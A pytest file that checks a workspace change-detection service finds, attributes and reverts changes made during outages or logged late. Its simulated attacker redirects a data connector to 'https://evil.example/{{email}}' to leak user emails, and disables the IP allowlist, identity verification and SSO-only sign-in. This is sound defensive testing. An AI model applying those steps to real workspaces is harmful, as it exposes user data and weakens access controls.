"""The service was away, or the log was late: everything is found, once, and it is known who did it."""

from __future__ import annotations

from pathlib import Path

import pytest

from drift.core.model.resources import Ref
from drift.sync.ingest import OVERLAP, poll, receive
from guard.workflow.approval_workflow import VoteRefused, cast_vote
from tests.flows.bad_days import ALLOWLIST, changes, is_on, made_by, switch_off, theirs
from tests.flows.world import ALICE, CAROL, DAVE, MALLORY, World, world


def five_changes(w: World) -> None:
    switch_off(w, MALLORY)
    w.act(CAROL, "PUT", "/office_hours_schedules/41", {"time_zone_name": "Europe/London"})
    w.act(MALLORY, "PATCH", "/data_connectors/503", {"url": "https://evil.example/{{email}}"})
    w.act(CAROL, "DELETE", "/ai/content_import_sources/605")
    w.does(MALLORY, "app_identity_verification_change", {"enabled": False})


def test_five_changes_made_while_the_service_was_down_are_all_found_once(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.assembled.close()
        w.fault("drop_webhooks")
        w.clock.ahead += 3600
        pages = {
            f"external_page/{page['id']}"
            for page in w.get("/ai/external_pages")["data"]
            if page["source_id"] == 605
        }
        five_changes(w)
        w.clock.ahead += 6 * 3600
        w.restart()
        w.service.first_look()
        found = {(str(change.ref), change.operation) for change in theirs(w)}
        assert found == {
            ("ip_allowlist/singleton", "updated"),
            ("office_hours_schedule/41", "updated"),
            ("data_connector/503", "updated"),
            ("content_import_source/605", "deleted"),
            *((page, "deleted") for page in pages),  # they went with their source
            ("workspace/singleton", "updated"),
            (
                "security_settings/singleton",
                "updated",
            ),  # what the log tells of the allowlist, beside the list
        }
        assert len(theirs(w)) == len(found)
        who = {str(change.ref): made_by(change).email for change in theirs(w)}
        assert who["ip_allowlist/singleton"] == who["data_connector/503"] == MALLORY
        assert who["office_hours_schedule/41"] == CAROL
        assert is_on(w)
        assert w.get("/office_hours_schedules/41")["time_zone_name"] == "Europe/Paris"
        assert w.get("/data_connectors/503")["url"] == "https://billing.acme.example/subscriptions/{{email}}"
        urls = [source["url"] for source in w.get("/ai/content_import_sources")["data"]]
        assert urls.count("https://policies.acme.example/") == 1
        assert [finding.policy for finding in w.findings()] == ["identity-verification-stays-on"]
        assert [one.ref for one in w.approvals()] == [Ref("office_hours_schedule", "41")]
        count, writes = len(theirs(w)), len(w.writes())
        w.look()
        w.restart()
        w.service.first_look()
        assert (len(theirs(w)), len(w.writes())) == (count, writes)


def test_a_second_start_is_no_second_baseline(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.assembled.close()
        switch_off(w, MALLORY, silent=True)
        w.restart()
        w.service.first_look()
        assert is_on(w)
        assert len(theirs(w)) == 1


def test_a_late_log_entry_says_who_made_a_change_that_was_found_before(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        acted_at = int(w.clock())
        switch_off(w, MALLORY, silent=True)
        w.look()
        (found,) = theirs(w, "ip_allowlist")
        assert found.attribution.source == "unattributed"
        assert is_on(w)
        w.clock.ahead += 60
        w.does(MALLORY, "security_settings_change", {"after": {"enabled": False}}, created_at=acted_at)
        w.look()
        (found,) = theirs(w, "ip_allowlist")
        assert (found.attribution.source, made_by(found).email) == ("activity", MALLORY)
        assert len(w.writes()) == 1


def test_an_entry_that_stood_in_the_log_only_minutes_later_is_found(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.look()
        w.fault("drop_webhooks")
        w.clock.ahead += 60
        w.look()
        w.does(MALLORY, "bulk_delete", created_at=int(w.clock() - OVERLAP / 20))
        w.look()
        assert "no-bulk-delete-by-a-single-click" in {finding.policy for finding in w.findings()}


def test_who_the_late_entry_names_may_not_approve_the_own_change(tmp_path: Path) -> None:
    """When people were asked, nobody knew yet who had made the change."""
    with world(tmp_path) as w:
        acted_at = int(w.clock())
        zone = {"time_zone_name": "Europe/London"}
        w.act(ALICE, "PUT", "/office_hours_schedules/41", zone, silent=True)
        w.look()
        (asked,) = w.approvals()
        assert asked.excluded == ()
        w.clock.ahead += 60
        w.does(ALICE, "office_hours_change", {"office_hours_schedule": {"id": 41}}, created_at=acted_at)
        w.look()
        with pytest.raises(VoteRefused, match="You made this change"):
            cast_vote(w.guarded, asked.id, ALICE, "approve")
        assert w.approvals()[0].settled_at is None
        cast_vote(w.guarded, asked.id, DAVE, "approve")
        w.service.turn()
        assert w.get("/office_hours_schedules/41")["time_zone_name"] == "Europe/London"


def test_of_several_who_may_have_made_a_change_none_may_approve_it(tmp_path: Path) -> None:
    """Two people changed the same hours between two readings: the log cannot tell whose values these are."""
    with world(tmp_path) as w:
        w.act(ALICE, "PUT", "/office_hours_schedules/41", {"time_zone_name": "Europe/London"})
        w.clock.ahead += 2
        night = [{"start_minute": 0, "end_minute": 60}]
        w.act(CAROL, "PUT", "/office_hours_schedules/41", {"time_intervals": night})
        w.look()
        (asked,) = w.approvals()
        for maker in (ALICE, CAROL):
            with pytest.raises(VoteRefused, match="You made this change"):
                cast_vote(w.guarded, asked.id, maker, "approve")


def test_duplicates_strange_orders_and_old_webhooks_change_nothing_more(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        switch_off(w, MALLORY)
        w.look()
        w.look()  # our own write stands in the log as well
        log = w.get(f"/admins/activity_logs?created_at_after={int(w.clock()) - 60}")["activity_logs"]
        mine = [one for one in log if one["activity_type"] == "security_settings_change"]
        before = (len(changes(w)), len(w.decisions()), len(w.writes()))
        for item in reversed(mine * 3):
            receive(w.guarded.workspace, webhook(item))
        year_old = mine[0] | {"id": "old", "created_at": int(w.clock() - 365 * 86400)}
        assert receive(w.guarded.workspace, webhook(year_old)).news
        w.look()
        assert (len(changes(w)), len(w.decisions()), len(w.writes())) == before
        assert is_on(w)


def webhook(item: dict[str, object]) -> dict[str, object]:
    return {"id": "n", "topic": "admin.activity_log_event.created", "data": {"item": item}}


def test_a_notification_about_a_kind_that_cannot_be_read_waits_until_it_can(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        client = w.assembled.foundation.reader._client
        client._pause = lambda seconds: None
        path = "/articles/7001"
        assert w.get(path)["state"] == "published"
        w.act(CAROL, "PUT", path, {"state": "draft"})
        w.fault("server_error", path="/articles")
        told = {"id": "n1", "topic": "article.unpublished", "data": {"item": {"id": "7001"}}}
        receive(w.guarded.workspace, told)
        w.service.turn()
        assert theirs(w, "article") == []
        w.no_faults()
        w.clock.ahead += 20
        w.service.turn()
        assert w.get(path)["state"] == "published"
        assert len(theirs(w, "article")) == 1


def test_the_poll_after_a_long_absence_reaches_back_to_where_the_last_one_was(tmp_path: Path) -> None:
    with world(tmp_path) as w:
        w.does(MALLORY, "bulk_delete")
        w.clock.ahead += 12 * 86400
        poll(w.guarded.workspace, backfill=60)
        w.service.turn()
        assert "no-bulk-delete-by-a-single-click" in {finding.policy for finding in w.findings()}


def test_an_own_write_finished_by_the_service_after_the_restart_is_no_change_of_anybody(
    tmp_path: Path,
) -> None:
    with world(tmp_path) as w:
        switch_off(w, MALLORY)
        w.fault("reset_mid_body", path="/ip_allowlist", method="PUT", times=1)
        w.look()
        w.clock.ahead += 5
        w.restart()
        w.service.first_look()
        assert is_on(w)
        with w.guarded.view() as view:
            (intent,) = view.state.intents.for_ref(ALLOWLIST)
        assert intent.state == "verified"
        assert len(theirs(w, "ip_allowlist")) == 1
        assert len(w.writes()) == 1


def test_sign_in_relaxed_while_the_service_was_down_is_a_change_also_where_nothing_was_known_before(
    tmp_path: Path,
) -> None:
    with world(tmp_path) as w:
        w.assembled.close()
        w.clock.ahead += 3600
        w.does(MALLORY, "app_authentication_method_change", {"before": ["sso"], "after": ["sso", "password"]})
        w.restart()
        w.service.first_look()
        (change,) = theirs(w, "authentication_methods")
        assert made_by(change).email == MALLORY
        assert [finding.policy for finding in w.findings()] == ["sign-in-is-not-relaxed"]
